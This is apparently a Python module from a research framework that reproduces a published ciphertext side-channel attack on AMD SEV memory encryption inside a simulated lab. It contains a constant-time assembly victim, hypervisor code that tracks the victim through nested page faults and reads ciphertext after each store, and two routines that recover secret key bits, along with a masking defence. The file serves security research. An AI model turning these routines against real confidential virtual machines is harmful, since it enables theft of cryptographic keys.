"""E9, A17: the same plaintext at the same address is the same ciphertext."""

from __future__ import annotations

import itertools

from cbit.attacks.lab.attack import SHORTEST_SECRET, Range, attack
from cbit.attacks.lab.guest import CODE, HLT, NPF, SECRET, Crashed, Program
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import Field, Log
from cbit.attacks.lab.outcome import SUCCEEDS, Expectation, Mode, does_not_apply, stopped_by, succeeds
from cbit.attacks.lab.scene import Facts, Scene
from cbit.attacks.lab.stand import Stand
from cbit.attacks.lab.tools import Registers, gpa_of
from cbit.attacks.power import Power
from cbit.cpu.engine.control_block import Exit
from cbit.spec.address import BLOCK, PAGE

VARIABLE = 0x30000
PAGES = tuple(CODE + PAGE * number for number in range(1, 6))

#: A loop over the bits of a secret number, as scalar multiplication is one: five routines on five pages, one
#: of which stores something that depends on the bit.  No branch and no address depends on it.
LADDER = f"""
    rdrand r12
    rdrand r13
    mov qword ptr [{VARIABLE:#x}], 0
    mov qword ptr [{VARIABLE + 8:#x}], 0
    xor r14d, r14d                     # the mask: it is in this register and nowhere else
    xor ecx, ecx
    jmp routine1
.org 0x1000
routine1:                              # the next bit
    mov eax, ecx
    shr eax, 3
    movzx ebx, byte ptr [rax + {SECRET:#x}]
    mov r8d, ecx
    and r8d, 7
    bt ebx, r8d
    setc bl
    movzx ebx, bl
    jmp routine2
.org 0x2000
routine2:
    @store@
    jmp routine3
.org 0x3000
routine3:
    imul r9, rbx, 3
    jmp routine4
.org 0x4000
routine4:
    add r10, r9
    jmp routine5
.org 0x5000
routine5:
    inc ecx
    cmp ecx, @bits@
    jne routine1
    hlt
"""
FLAG = f"mov [{VARIABLE:#x}], rbx"
SWAP = f"""
    mov rax, rbx
    neg rax
    mov rdx, r12
    xor rdx, r13
    and rdx, rax
    xor r12, rdx
    xor r13, rdx
    mov [{VARIABLE:#x}], r12
    mov [{VARIABLE + 8:#x}], r13
"""
MASKED_FLAG = f"""
    rdrand r14
    mov rax, rbx
    xor rax, r14
    mov [{VARIABLE:#x}], rax
"""
MASKED_SWAP = SWAP.replace(
    f"mov [{VARIABLE:#x}], r12\n    mov [{VARIABLE + 8:#x}], r13",
    f"rdrand r14\n    mov rax, r12\n    xor rax, r14\n    mov [{VARIABLE:#x}], rax\n"
    f"    mov rax, r13\n    xor rax, r14\n    mov [{VARIABLE + 8:#x}], rax",
)


def ladder(stand: Stand, plain: str, masked: str, *, stores: str) -> Scene:
    """Start a victim that works through a secret number bit by bit, and stores a register for each."""
    bits = stand.number("bits")
    secret = stand.entropy.draw(bits // 8)
    store = masked if stand.variant == "masked" else plain
    source = LADDER.replace("@store@", store).replace("@bits@", str(bits))
    sealed = secret + bytes(-len(secret) % BLOCK)
    guest = stand.guest(Program(source), secret=sealed)
    facts = Facts({"variable_at": VARIABLE, "pages": PAGES, "bits": bits})
    planted = guest.peek(SECRET, len(secret)) == secret
    return Scene(
        (secret,), facts, guest, planted=planted, serves=_works_it_out(stand, Program(source), stores)
    )


def _works_it_out(stand: Stand, program: Program, stores: str) -> bool:
    """Let the same program work through a number of its own, with nobody watching.

    It adds 3 for each bit that is set; and what it has stored last is right, once the mask is taken off.
    """
    secret = stand.entropy.draw(stand.number("bits") // 8)
    guest = stand.guest(program, secret=secret + bytes(-len(secret) % BLOCK))
    guest.until_idle()
    registers = Registers(guest.cpu)
    stored = int.from_bytes(guest.peek(VARIABLE, 8), "little") ^ registers["r14"] == registers[stores]
    summed = registers["r10"] == 3 * int.from_bytes(secret, "little").bit_count()
    read = registers["rbx"] == secret[-1] >> 7
    guest.end()
    return stored and summed and read


def flags(stand: Stand) -> Scene:
    """Start a small program that stores the bits of a secret number one by one.

    The built-in guest keeps the bits that it works with in registers.
    """
    return ladder(stand, FLAG, MASKED_FLAG, stores="rbx")


def swaps(stand: Stand) -> Scene:
    """Start a small program that swaps two unknown numbers wherever a bit of a secret number is set.

    The built-in guest keeps the bits that it works with in registers.
    """
    return ladder(stand, SWAP, MASKED_SWAP, stores="r12")


EXPECT: dict[Mode, Expectation] = {
    Mode.NONE: does_not_apply("nothing is encrypted: the variable itself is read"),
    Mode.SME: succeeds("deterministic encryption: for whoever reads DRAM, or maps it with C=0"),
    Mode.SEV: succeeds("deterministic encryption"),
    Mode.SEV_ES: SUCCEEDS,
    Mode.SEV_SNP: succeeds("unless ciphertext hiding is on: then the host reads 0xFF"),
}
HOLDS = {Power.EDIT_NESTED_TABLES, Power.TAKE_EXITS, Power.MAP_MEMORY, Power.FLUSH_CACHES}
DEFENCES = {
    "masked": stopped_by(
        "the victim masks what it stores with a fresh random number each time, which stays in a register",
        shown="no ciphertext comes twice",
    )
}
PARAMETERS = {"bits": Range(256, 8 * SHORTEST_SECRET, 4096, 8)}
_SOURCE = "Li et al., S&P 2022 (attacks.md A17)"


def watch(hands: Hands, facts: Facts, log: Log) -> list[bytes]:
    """Follow the loop from page to page, and read the variable's ciphertext after each store.

    Returns:
        The ciphertext before the first store, then that after each.
    """
    pages, at = facts.numbers("pages"), hands.memory.spa(facts.number("variable_at"))
    hands.tables.forbid_execution(*pages)
    seen: list[bytes] = []
    faults, running = 0, -1

    def follow(exit: Exit) -> bool:
        nonlocal faults, running
        page = gpa_of(exit.info_2) & -PAGE
        if exit.code != NPF or page not in pages:
            return False
        faults += 1
        if page == pages[2] or running < 0:  # the store is on the page before
            hands.caches.write_back()
            seen.append(hands.memory.read(at, BLOCK))
        hands.tables.home(page)
        if running >= 0:
            hands.tables.forbid_execution(running)
        running = page
        return True

    hands.victim.until(HLT, handle=follow)
    bits = facts.number("bits")
    if len(seen) != bits + 1:
        raise Crashed(f"{len(seen)} readings for {bits} bits")
    log.figure(
        f"nested page faults for {bits} bits",
        faults,
        published="1280 for 256 bits, 5 for each",
        source=_SOURCE,
        difference="the victim has as many routines as the published one",
    )
    return seen


def _number(bits: list[int]) -> bytes:
    total = sum(bit << index for index, bit in enumerate(bits))
    return total.to_bytes(len(bits) // 8, "little")


def _note(log: Log, seen: list[bytes], bits: list[int], loot: bytes) -> None:
    if len(set(seen)) == len(seen):
        log.obstacle = "no ciphertext comes twice"
    log.step(f"{len(set(seen))} different ciphertexts in {len(seen)} readings", b"".join(seen[:4]))
    log.step("the bits", loot, picture=Field(32, bytes(255 if bit else 40 for bit in bits)))


@attack(
    title="A dictionary of ciphertexts",
    experiment="E9",
    paper=_SOURCE,
    holds=HOLDS,
    expect=EXPECT,
    defences=DEFENCES,
    victim=flags,
    parameters=PARAMETERS,
)
def ciphertext_dictionary(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Learn the ciphertext of a flag that is known to be 0 once; then read every flag by comparison.

    The victim's code is constant-time: no branch and no address depends on its secret.  It stores a bit into
    a block that holds nothing else.  The hypervisor follows the loop by nested page faults and reads the
    block's ciphertext after each store.
    """
    seen = watch(hands, facts, log)
    zero = seen[0]
    bits = [int(cells != zero) for cells in seen[1:]]
    loot = _number(bits)
    _note(log, seen, bits, loot)
    return loot


@attack(
    title="Collisions of ciphertexts",
    experiment="E9",
    paper=_SOURCE,
    holds=HOLDS,
    expect=EXPECT,
    defences=DEFENCES,
    victim=swaps,
    parameters=PARAMETERS,
)
def ciphertext_collision(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Watch two numbers that nobody knows being swapped, or not: the block changes, or it does not.

    A conditional swap in constant time stores both numbers whether or not it has swapped them.  No dictionary
    is needed: equal to the reading before means that the bit was 0.
    """
    seen = watch(hands, facts, log)
    bits = [int(now != before) for before, now in itertools.pairwise(seen[1:])]
    # The first store replaces zeros by two numbers, swapped or not: its bit is tried both ways.
    loot = b"".join(_number([first, *bits]) for first in (0, 1))
    _note(log, seen, [0, *bits], loot)
    return loot
